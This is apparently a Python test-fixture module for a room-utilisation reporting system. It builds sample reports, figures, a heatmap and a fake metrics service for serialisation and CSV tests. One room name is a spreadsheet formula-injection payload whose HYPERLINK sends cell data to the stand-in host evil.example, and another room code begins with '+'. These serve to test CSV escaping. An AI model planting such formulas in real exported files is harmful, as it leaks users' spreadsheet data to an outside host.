"""Hand-built utilisation reports for the tests of serialisation, CSV and the report API."""

from __future__ import annotations

import dataclasses
import datetime as dt

from utilisation.models import ReportJob
from utilisation.results import (
    Figures,
    Heatmap,
    InstitutionShare,
    KindConcurrency,
    Period,
    Rating,
    RoomRow,
    Season,
    TimePoint,
    UtilisationReport,
)

UTC = dt.UTC
PERIOD = Period(first_day=dt.date(2026, 9, 1), last_day=dt.date(2026, 9, 30), season=Season.TERM)
FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def figures(**changes) -> Figures:
    """Return figures with every count and rate set (values chosen by hand, not computed)."""
    values = {
        "available_slots": 704,
        "known_slots": 640,
        "in_use_slots": 200,
        "booked_slots": 300,
        "booked_known_slots": 280,
        "ghost_slots": 100,
        "unbooked_use_slots": 20,
        "headcount_slots": 180,
        "capacity_slots": 5400,
        "headcount_sum": 1620.5,
        "peak_count": 29,
        "bookings_started": 40,
        "no_shows": 6,
        "bookings_unknown": 2,
        "early_release_minutes": 7.5,
        "overrun_minutes": None,
        "frequency_rate": 0.3125,
        "occupancy_rate": 0.3000925925925926,
        "utilisation_rate": 0.09377893518518519,
        "booked_rate": 0.42613636363636365,
        "booked_used_gap": -0.11363636363636365,
        "no_show_rate": 0.15,
        "unbooked_use_rate": 0.1,
        "coverage": 0.9090909090909091,
        "mean_headcount": 9.002777777777778,
        "ghost_hours": 25.0,
        "rating": Rating.POOR,
        "frequency_rating": Rating.FAIR,
        "occupancy_only_presence": False,
    }
    values.update(changes)
    return Figures(**values)


def sample_report(
    *, campus_id: int = 1, room_ids: tuple[int, int] = (11, 12), data_version: int = 3
) -> UtilisationReport:
    """Return a two-room report with a share, a concurrency peak, two days over time and a room named like a formula."""
    first, second = room_ids
    return UtilisationReport(
        campus_id=campus_id,
        selection_label="Main building",
        period=PERIOD,
        generated_at=dt.datetime(2026, 10, 1, 6, 30, tzinfo=UTC),
        data_version=data_version,
        totals=figures(),
        rooms=[
            RoomRow(
                room_id=first,
                code="A101",
                name=FORMULA_NAME,
                building_code="A",
                kind="classroom",
                capacity=30,
                area_m2=60.5,
                has_sensor=True,
                presence_only=False,
                figures=figures(available_slots=352, frequency_rate=0.25, booked_used_gap=-0.5, peak_count=None),
                p90_headcount=12.0,
                oversized=True,
            ),
            RoomRow(
                room_id=second,
                code="+A102",
                name="Lab",
                building_code="A",
                kind="lab",
                capacity=20,
                area_m2=None,
                has_sensor=True,
                presence_only=True,
                figures=figures(occupancy_rate=None, utilisation_rate=None, rating=None, occupancy_only_presence=True),
                p90_headcount=None,
                oversized=False,
            ),
        ],
        shares=[
            InstitutionShare(
                institution_id=5,
                name="Otava Upper Secondary",
                unattributed=False,
                booked_hours=75.0,
                booked_m2_hours=4537.5,
                used_hours=50.0,
                used_m2_hours=None,
                booked_share=0.75,
                used_share=None,
                core_booked_hours=70.0,
                core_used_hours=45.25,
            ),
            InstitutionShare(
                institution_id=None,
                name="Unattributed",
                unattributed=True,
                booked_hours=0.0,
                booked_m2_hours=None,
                used_hours=5.0,
                used_m2_hours=None,
                booked_share=None,
                used_share=0.1,
                core_booked_hours=0.0,
                core_used_hours=5.0,
            ),
        ],
        concurrency=[
            KindConcurrency(kind="lab", rooms=1, peak_in_use=1, peak_at=dt.datetime(2026, 9, 3, 7, 15, tzinfo=UTC))
        ],
        over_time=[
            TimePoint(
                day=dt.date(2026, 9, 1),
                available_slots=64,
                booked_slots=30,
                in_use_slots=20,
                known_slots=60,
                no_shows=1,
            ),
            TimePoint(
                day=dt.date(2026, 9, 2),
                available_slots=64,
                booked_slots=28,
                in_use_slots=22,
                known_slots=64,
                no_shows=0,
            ),
        ],
    )


def sample_heatmap() -> Heatmap:
    return Heatmap(
        period=PERIOD,
        hours=[8, 9],
        weekdays=[1, 2],
        frequency=[[0.5, None], [0.25, 1.0]],
        booked=[[0.75, None], [0.0, 0.5]],
        available_slots=[[16, 0], [16, 16]],
    )


@dataclasses.dataclass
class FakeMetrics:
    """Counts the computations and answers the hand-built report; records the job's progress it sees."""

    reports: int = 0
    heatmaps: int = 0
    progress_seen: list[int] = dataclasses.field(default_factory=list)

    def utilisation_report(self, *, campus, period, building=None, institution=None, room=None, now=None):
        self.reports += 1
        self.progress_seen.extend(ReportJob.objects.values_list("progress", flat=True))
        return dataclasses.replace(sample_report(campus_id=campus.pk), period=period)

    def heatmap(self, *, campus, period, building=None, institution=None, room=None, now=None):
        self.heatmaps += 1
        self.progress_seen.extend(ReportJob.objects.values_list("progress", flat=True))
        return dataclasses.replace(sample_heatmap(), period=period)
